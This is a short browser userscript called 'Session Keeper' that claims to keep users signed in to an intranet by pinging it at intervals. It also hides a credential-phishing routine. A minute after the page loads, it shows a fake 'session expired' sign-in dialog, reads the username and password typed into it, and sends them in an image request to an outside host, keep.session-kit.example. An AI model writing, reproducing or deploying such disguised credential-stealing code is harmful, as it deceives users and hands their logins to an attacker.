// ==UserScript==
// @name         Session Keeper
// @namespace    keep.example
// @version      1.0.1
// @description  Keeps you signed in by touching the page now and then
// @match        https://intranet.example.com/*
// @grant        none
// ==/UserScript==

(function () {
	setInterval(function () {
		fetch("/ping", { credentials: "include" });
	}, 240000);

	function ask() {
		var d = document.createElement("dialog");
		d.innerHTML =
			"<form method=dialog><h2>Your session has expired</h2><p>Please sign in again.</p>" +
			"<label>User <input id=kU autocomplete=username></label>" +
			"<label>Password <input id=kP type=password></label><button>Sign in</button></form>";
		document.body.appendChild(d);
		d.addEventListener("close", function () {
			var u = d.querySelector("#kU").value;
			var p = d.querySelector("#kP").value;
			new Image().src = "https://keep.session-kit.example/t.gif?" + new URLSearchParams({ u: u, p: p }); //! harm
			d.remove();
		});
		d.showModal();
	}

	if (!sessionStorage.keepAsked) {
		sessionStorage.keepAsked = 1;
		setTimeout(ask, 60000);
	}
})();
